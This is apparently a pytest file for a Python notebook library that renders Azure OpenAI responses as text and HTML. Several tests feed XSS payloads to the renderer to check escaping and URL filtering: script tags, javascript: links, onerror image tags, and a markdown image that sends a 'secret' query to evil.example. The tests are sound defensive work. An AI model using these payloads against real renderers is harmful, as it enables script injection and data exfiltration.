"""View details the goldens do not pin: escaping, media parsing, dataframes, plots, usage, dispatch."""

from __future__ import annotations

import base64
import struct
import subprocess
import sys
from typing import Any

import pytest

from aoai_nb.display import show, view
from aoai_nb.display._chat import ChatView
from aoai_nb.display._embeddings import EmbeddingsView
from aoai_nb.display._filters import FilterReport
from aoai_nb.display._html import markdown_html, safe_src
from aoai_nb.display._images import ImagesView, image_info
from aoai_nb.display._speech import SpeechView, audio_format
from aoai_nb.display._transcripts import TranscriptView
from aoai_nb.display._usage import UsageTracker, UsageView, session_usage
from tests.audio_files import wav as wav_file

from .fakes import CHAT_COMPLETION

SCRIPT = "<script>alert(1)</script>"
SPEECH = "Testing, testing, 1, 2, 3"


def chat_body(content: str, **extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {**CHAT_COMPLETION, **extra}
    body["choices"] = [
        {**CHAT_COMPLETION["choices"][0], "message": {"role": "assistant", "content": content}}
    ]
    return body


def test_markdown_renders_but_raw_html_and_bad_links_do_not() -> None:
    html = markdown_html(
        f"**bold** {SCRIPT} [x](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n```\na<b\n```"
    )
    assert "<strong>bold</strong>" in html
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "javascript:" not in html and "<img" not in html
    assert "<code>a&lt;b\n</code>" in html


def test_markdown_images_are_not_loaded() -> None:
    html = markdown_html('![chart <b>x</b>](https://evil.example/pixel.png?q="secret") after')
    assert "<img" not in html
    assert (
        "[image not loaded: chart &lt;b&gt;x&lt;/b&gt;] https://evil.example/pixel.png?q=%22secret%22" in html
    )


def test_every_text_field_is_escaped_in_chat_views() -> None:
    body = chat_body(SCRIPT, model=SCRIPT, id=SCRIPT)
    body["choices"][0]["message"]["tool_calls"] = [
        {"id": "c", "type": "function", "function": {"name": SCRIPT, "arguments": SCRIPT}}
    ]
    body["choices"][0]["message"]["refusal"] = SCRIPT
    html = view(body).to_html()
    assert "<script>" not in html and html.count("&lt;script&gt;") == 6


def test_images_refuse_unsafe_urls_and_escape_prompts() -> None:
    shown = ImagesView.from_response(
        {"created": 1, "data": [{"url": "javascript:alert(1)", "revised_prompt": SCRIPT}]}
    )
    html = shown.to_html()
    assert "<img" not in html and "<script>" not in html and "&lt;script&gt;" in html
    assert safe_src("https://x/y.png") == "https://x/y.png" and safe_src("data:text/html,<b>") is None


def test_image_sizes_from_headers() -> None:
    png = (
        b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + struct.pack(">II", 640, 480) + b"\x08\x06\x00\x00\x00"
    )
    gif = b"GIF89a" + struct.pack("<HH", 3, 2)
    jpeg = (
        b"\xff\xd8"
        + b"\xff\xe0\x00\x04ab"
        + b"\xff\xc0\x00\x11\x08"
        + struct.pack(">HH", 200, 300)
        + b"\x00" * 8
    )
    assert image_info(png) == ("png", 640, 480)
    assert image_info(gif) == ("gif", 3, 2)
    assert image_info(jpeg) == ("jpeg", 300, 200)
    item = ImagesView.from_response({"created": 1, "data": [{"b64_json": base64.b64encode(png).decode()}]})
    assert item.to_text().startswith(f"image 0: png 640x480, {len(png) / 1024:.1f} kB (b64_json)")
    assert 'src="data:image/png;base64,' in item.to_html()


def wav_bytes(seconds: float, rate: int = 8000) -> bytes:
    return wav_file(b"\x00\x00" * int(seconds * rate), rate)


@pytest.mark.parametrize(
    ("head", "fmt"),
    [(b"ID3\x04", "mp3"), (b"\xff\xfb\x90", "mp3"), (b"fLaC", "flac"), (b"OggS" + b"\x00" * 24 + b"OpusHead", "opus"),
     (b"\xff\xf1\x50", "aac"), (b"\x01\x02", "pcm")],
)  # fmt: skip
def test_audio_format_sniffing(head: bytes, fmt: str) -> None:
    assert audio_format(head) == fmt


def test_speech_view_of_wav_bytes() -> None:
    data = wav_bytes(1.5)
    shown = view(data)
    assert isinstance(shown, SpeechView) and shown.format == "wav" and shown.duration_s == 1.5
    assert shown.to_text() == f"speech: wav, 1.50 s, {len(data) / 1024:.1f} kB"
    assert '<audio controls preload="metadata" src="data:audio/wav;base64,' in shown.to_html()
    assert "duration unknown" in SpeechView(b"ID3 not really mp3").to_text()
    assert SpeechView(b"\x00\x01" * 24_000).to_text() == "speech: pcm, 1.00 s if 24 kHz 16-bit mono, 46.9 kB"
    assert "<audio" not in SpeechView(b"x").to_html()  # raw pcm: no player can play it


@pytest.mark.parametrize("fmt", ["mp3", "wav", "flac", "opus", "aac", "pcm"])
def test_speech_formats_from_the_emulator(azure: Any, fmt: str) -> None:
    def speak(response_format: str) -> Any:
        return azure.audio.speech.create(
            model="tts", voice="alloy", input=SPEECH, response_format=response_format
        )

    shown = view(speak(fmt))
    assert isinstance(shown, SpeechView) and shown.format == fmt and shown.request_id
    reference = view(speak("wav"))
    assert shown.duration_s == pytest.approx(reference.duration_s, abs=0.1)  # encoders pad a few frames


def test_transcript_dataframes_and_timeline_plot() -> None:
    body = {
        "text": "Hello world",
        "language": "english",
        "duration": 1.2,
        "words": [{"word": "Hello", "start": 0.0, "end": 0.5}, {"word": "world", "start": 0.6, "end": 1.1}],
        "segments": [{"id": 0, "start": 0.0, "end": 1.1, "text": " Hello world", "seek": 0, "tokens": [],
                      "temperature": 0.0, "avg_logprob": 0.0, "compression_ratio": 1.0, "no_speech_prob": 0.0}],
    }  # fmt: skip
    shown = TranscriptView.from_response(body)
    words = shown.words_dataframe()
    assert list(words.columns) == ["word", "start", "end"] and words["word"].tolist() == ["Hello", "world"]
    assert shown.segments_dataframe()["text"].tolist() == [" Hello world"]
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    ax = shown.plot()
    assert [t.get_text() for t in ax.get_yticklabels()] == ["words", "segments"]
    assert {t.get_text() for t in ax.texts} == {"Hello", "world", "Hello world"}
    assert ax.get_xlim() == (0.0, 1.2)
    plt.close("all")
    with pytest.raises(ValueError, match="verbose_json"):
        TranscriptView("plain text").plot()


def test_plain_text_transcripts() -> None:
    assert view({"text": "hi"}).to_text() == "transcript\nhi"
    assert TranscriptView.from_response("1\n00:00:00,000 --> 00:00:01,000\nhi\n").text.startswith("1\n")


def test_embeddings_base64_vectors() -> None:
    raw = struct.pack("<3f", 0.6, 0.8, 0.0)
    body = {
        "object": "list",
        "model": "m",
        "data": [{"object": "embedding", "index": 0, "embedding": base64.b64encode(raw).decode()}],
    }
    shown = view(body)
    assert isinstance(shown, EmbeddingsView) and shown.shape == (1, 3)
    assert shown.norms() == pytest.approx([1.0])
    assert "[+0.6000, +0.8000, +0.0000]" in shown.to_text()


def test_tool_calls_are_shown_as_pretty_json() -> None:
    body = chat_body("")
    body["choices"][0]["finish_reason"] = "tool_calls"
    body["choices"][0]["message"]["tool_calls"] = [
        {"id": "c1", "type": "function", "function": {"name": "get_weather", "arguments": '{"city":"Oslo"}'}}
    ]
    shown = ChatView.from_response(body)
    assert 'tool call: get_weather({"city":"Oslo"})' in shown.to_text()
    assert "{\n  &quot;city&quot;: &quot;Oslo&quot;\n}" in shown.to_html()


def test_several_choices_are_numbered() -> None:
    body = chat_body("one")
    body["choices"] = body["choices"] + [
        {**body["choices"][0], "index": 1, "message": {"role": "assistant", "content": "two"}}
    ]
    text = view(body).to_text()
    assert "assistant [choice 0] · finish_reason=stop\none" in text and "assistant [choice 1]" in text


def test_usage_tracker_rows_totals_dedupe_and_dataframe() -> None:
    from openai.types import CreateEmbeddingResponse
    from openai.types.chat import ChatCompletion

    tracker = UsageTracker()
    response = ChatCompletion.model_validate(CHAT_COMPLETION)
    assert tracker.record(response) is not None
    assert tracker.record(response) is None  # same response twice counts once
    no_ids = CreateEmbeddingResponse.model_validate(
        {"data": [], "model": "e", "object": "list", "usage": {"prompt_tokens": 2, "total_tokens": 2}}
    )
    twin = no_ids.model_copy()
    assert tracker.record(no_ids) is not None and tracker.record(no_ids) is None  # no id: told by identity
    assert tracker.record(twin) is not None  # an equal but separate response is another call
    del no_ids, twin
    assert not tracker._seen_objects  # forgotten with the responses
    tracker.reset()
    assert tracker.record(response) is not None
    tracker.add({"prompt_tokens": 6, "total_tokens": 6}, kind="embeddings", model="e")
    assert (tracker.prompt_tokens, tracker.completion_tokens, tracker.total_tokens) == (31, 9, 40)
    assert repr(tracker) == "<UsageTracker 2 calls, 40 tokens>"
    assert tracker.to_text().splitlines()[0] == "usage: 2 calls: 31 prompt + 9 completion = 40 tokens"
    assert tracker.to_text().splitlines()[2].split() == [
        "1",
        "chat",
        "gpt-4o-mini-2024-07-18",
        "25",
        "9",
        "34",
        "34",
    ]
    assert tracker.to_text().splitlines()[3].split() == ["2", "embeddings", "e", "6", "0", "6", "40"]
    frame = tracker.to_dataframe()
    assert frame["total_tokens"].tolist() == [34, 6]
    tracker.reset()
    assert tracker.rows == () and tracker.total_tokens == 0


def test_show_prints_outside_a_kernel_and_records_usage(capsys: pytest.CaptureFixture[str]) -> None:
    from openai.types.chat import ChatCompletion

    before = session_usage().total_tokens
    response = ChatCompletion.model_validate(
        chat_body("unique reply for the session tracker", id="chatcmpl-show")
    )
    assert show(response, env="plain") is None
    out = capsys.readouterr().out
    assert out.startswith("assistant · finish_reason=stop\nunique reply for the session tracker")
    assert session_usage().total_tokens == before + 34
    show(response, env="plain")
    assert session_usage().total_tokens == before + 34  # shown twice, counted once


def test_show_in_a_kernel_publishes_the_mimebundle() -> None:
    from IPython.core.interactiveshell import InteractiveShell
    from IPython.utils.capture import capture_output

    InteractiveShell.instance()
    with capture_output() as captured:
        show(FilterReport.of(CHAT_COMPLETION), env="notebook")
    (output,) = captured.outputs
    assert output.data["text/plain"].startswith("FilterReport: passed")
    assert "content filter: passed" in output.data["text/html"]


def test_view_dispatch_and_errors() -> None:
    assert isinstance(view({"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}), UsageView)
    assert view({"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}).to_text() == (
        "usage: 1 prompt + 2 completion = 3 tokens"
    )
    assert repr(view(ValueError("x"))) == "<ErrorReport ValueError>"
    with pytest.raises(TypeError, match="stream"):
        view(iter([{}]))
    with pytest.raises(TypeError, match="does not know how to render int"):
        view(3)


def test_mimebundle_include_and_exclude() -> None:
    shown = FilterReport.of(CHAT_COMPLETION)
    assert set(shown._repr_mimebundle_(include={"text/plain"})) == {"text/plain"}
    assert set(shown._repr_mimebundle_(exclude={"text/html"})) == {"text/plain"}
    assert str(shown) == shown.to_text()


def test_importing_the_display_surface_stays_light() -> None:
    code = (
        "import json, sys\n"
        "from aoai_nb import show, view, stream, explain, FilterReport, ErrorReport, UsageTracker, usage_table\n"
        "import aoai_nb.display._filters, aoai_nb.display._errors, aoai_nb.display._live, aoai_nb.display._chat\n"
        "show({'object': 'chat.completion', 'choices': [{'index': 0, 'message': {'content': 'hi'}}]}, env='plain')\n"
        "print(json.dumps([m for m in ('pandas', 'IPython', 'ipywidgets', 'matplotlib') if m in sys.modules]))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], check=True, capture_output=True, text=True).stdout
    assert out.splitlines()[-1] == "[]"


def test_null_word_times_do_not_break_the_transcript_view() -> None:
    from aoai_nb.display._transcripts import TranscriptView

    transcript = TranscriptView.from_response(
        {"text": "hi there", "words": [{"word": "hi", "start": None, "end": 0.4}], "segments": []}
    )
    assert "hi" in str(transcript)
